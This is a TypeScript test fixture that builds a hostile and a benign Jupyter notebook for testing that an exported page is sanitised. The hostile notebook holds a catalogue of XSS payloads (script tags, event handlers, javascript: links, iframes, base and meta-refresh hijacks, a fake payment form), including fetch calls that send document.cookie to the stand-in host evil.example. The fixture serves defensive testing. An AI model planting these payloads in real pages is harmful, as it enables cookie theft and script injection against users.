/**
 * Hand-made notebooks for the page-safety tests: one written to attack whoever
 * opens its exported page, one using everything the course's notebooks use.
 * Every hostile payload sets `window.__pwned` or reaches for evil.example, so a
 * test can look for either.
 */
import type { Notebook } from '../../scripts/notebook';

const PLOTLY = 'application/vnd.plotly.v1+json';

export const EVIL_HOST = 'evil.example';

function nb(cells: Notebook['cells']): Notebook {
  return { cells, metadata: {}, nbformat: 4, nbformat_minor: 5 };
}

/** A figure of each kind the builders emit: lines, bars and a heatmap (drawn through a canvas). */
export const FIGURES = [
  { data: [{ type: 'scatter', mode: 'lines', x: [1, 2, 3], y: [2, 1, 3], name: 'a' }], layout: { title: { text: 'lines' } } },
  { data: [{ type: 'bar', x: ['a', 'b'], y: [3, 4] }], layout: {} },
  { data: [{ type: 'heatmap', x: [1, 2], y: ['L1', 'L7'], z: [[0.1, 0.5], [0.9, 0.3]], colorscale: 'Viridis' }], layout: {} },
];

export const hostileNotebook = nb([
  {
    cell_type: 'markdown',
    source: [
      '# A friendly notebook\n\n',
      'Hello <script>window.__pwned = "markdown script"; fetch("https://evil.example/steal")</script> there.\n\n',
      '<img src="x" onerror="window.__pwned = \'onerror\'">\n\n',
      '[click me](javascript:window.__pwned=\'link\') and <a href="JaVaScRiPt:window.__pwned=1">again</a>\n\n',
      '<iframe src="https://evil.example/frame"></iframe>\n\n',
      '![tracker](https://evil.example/pixel.png) <img src="//evil.example/relative.png">\n\n',
      '<div style="background:url(https://evil.example/bg.png)">styled</div>\n\n',
      '<style>body { background: url(https://evil.example/css.png) }</style>\n\n',
      '<form action="https://evil.example/post"><input name="card"><button>pay</button></form>\n\n',
      '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y.swf">\n\n',
      '<svg onload="window.__pwned = \'svg\'"><circle r="4"/></svg>\n',
      '<a id="figure-1-spec" class="output figure" data-spec="figure-1-spec">clobber</a>\n',
    ],
  },
  {
    cell_type: 'code',
    source: 'show(fig);',
    outputs: [
      {
        output_type: 'display_data',
        data: {
          'text/html': [
            '<b>bold</b><script>window.__pwned = "html output"; fetch("https://evil.example/exfiltrate?c=" + document.cookie)</script>',
            '<img src="https://evil.example/out.png"><link rel="stylesheet" href="https://evil.example/x.css">',
            '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
            '<base href="https://evil.example/">',
          ],
        },
        metadata: {},
      },
      { output_type: 'display_data', data: { 'text/markdown': '<script>window.__pwned = "markdown output"</script>\n\n*md*' }, metadata: {} },
      { output_type: 'stream', name: 'stdout"><script>window.__pwned="stream"</script>' as 'stdout', text: 'printed\n' },
      { output_type: 'display_data', data: { [PLOTLY]: FIGURES[2] }, metadata: {} },
    ],
  },
]);

/** A showTable output as the library writes it. */
const TABLE_HTML =
  '<table class="netlab-table"><caption style="caption-side:top;text-align:left">Latency (ms)</caption>' +
  '<thead><tr><th style="text-align:left">configuration</th><th style="text-align:right">p99</th></tr></thead>\n' +
  '<tbody>\n<tr><td style="text-align:left">HTTP/2</td><td style="text-align:right">120.50</td></tr>\n</tbody></table>';

export const benignNotebook = nb([
  {
    cell_type: 'markdown',
    source: [
      '# Part 9 — A *benign* notebook\n\n',
      '## Section with **bold** and `code`\n\n',
      '1. first\n2. second\n\n- a\n- b\n\n',
      '| layer | capacity |\n|:--|--:|\n| L7 | 210 |\n\n',
      '> A quoted remark.\n\n---\n\n',
      '```ts\nconst x = 1;\n```\n\n',
      'H<sub>2</sub>O and x<sup>2</sup>; <details><summary>Hint</summary>Look at ρ.</details>\n\n',
      '**Previous:** [Part 8](08-previous.ipynb), [a section](#section), [the RFC](https://www.rfc-editor.org/rfc/rfc9000).\n\n',
      '![diagram](attachment:d.png)\n',
    ],
    attachments: { 'd.png': { 'image/png': 'iVBORw0KGgo=' } },
  },
  {
    cell_type: 'code',
    source: 'showTable(rows);\nshow(fig);',
    outputs: [
      { output_type: 'display_data', data: { 'text/html': TABLE_HTML, 'text/plain': 'table' }, metadata: {} },
      ...FIGURES.map((figure) => ({ output_type: 'display_data' as const, data: { [PLOTLY]: figure }, metadata: {} })),
    ],
  },
]);
